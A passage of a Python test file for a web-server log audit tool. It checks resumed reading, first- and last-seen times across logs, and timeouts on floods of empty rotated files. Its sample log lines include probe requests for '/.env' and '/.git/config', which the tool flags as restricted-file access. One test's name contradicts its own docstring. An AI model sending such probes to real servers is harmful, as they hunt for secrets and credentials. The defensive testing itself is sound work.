    audit(log, state)
    with open(log, "a") as handle:
        handle.write(line("45.1.1.1", ahead(-3), "GET /.env HTTP/1.1", 404)
                     + line("45.1.1.2", ahead(-0.25), "GET /.git/config HTTP/1.1", 404))
    result = audit(log, state)
    assert result["resumed"][str(log)] == "live" and result["requests"] == 2
    found = {f["category"]: f for f in result["findings"]}
    assert found["restricted_file"]["count"] == 2
    assert found["restricted_file"]["first_seen"] == found["restricted_file"]["last_seen"] \
        == result["first_seen"] == weblog.seen_time(f"{ahead(-0.25)} +0700".encode())[1]
    assert found["forged_time"]["count"] == 1
    assert found["forged_time"]["clients"] == [{"client": "45.1.1.1", "count": 1}]


def test_the_first_and_last_seen_of_several_logs_are_their_earliest_and_latest(tmp_path):
    """Two sites' logs, the second one's lines earlier than the first one's: the audit's
    first seen was the first log's first line and its last seen the second log's last
    line (the order the logs were given in), not the earliest and the latest."""
    later_site, earlier_site = tmp_path / "a.log", tmp_path / "b.log"
    later_site.write_text(lines(3, 10))
    earlier_site.write_text(lines(3, 8))
    result = audit(later_site, tmp_path / "state", paths=[str(later_site), str(earlier_site)])
    assert (result["first_seen"], result["last_seen"]) == (
        "2026-11-30T08:00:00+07:00", "2026-11-30T10:00:02+07:00")


def test_a_log_folder_full_of_rotated_copies_is_stopped_at_the_time_limit(tmp_path):
    """The web server's account may write the log folder: thousands of empty "rotated
    copies" were each fingerprinted, planned and opened without looking at the time limit
    (an empty file has no block to check it on), so the audit ran on past its timeout."""
    log, state = tmp_path / "access.log", tmp_path / "state"
    log.write_text(lines(3, 1))
    audit(log, state)
    log.write_text("")  # rotated away unread, as far as the state can tell
    for n in range(1, 200):
        (tmp_path / f"access.log.{n}").touch()
    over = weblog.Deadline(0)
    time.sleep(0.01)
    with pytest.raises(weblog.LogError, match="not read within 0 s, stopped"):
        weblog.plan(str(log), weblog.read_state(str(next(state.iterdir()))), over)
    tasks = [weblog.Task(str(tmp_path / f"access.log.{n}"), 0, 0) for n in range(1, 200)]
    with pytest.raises(weblog.LogError, match="not read within 0 s, stopped"):
        weblog.audit(tasks, workers=1, deadline=over)
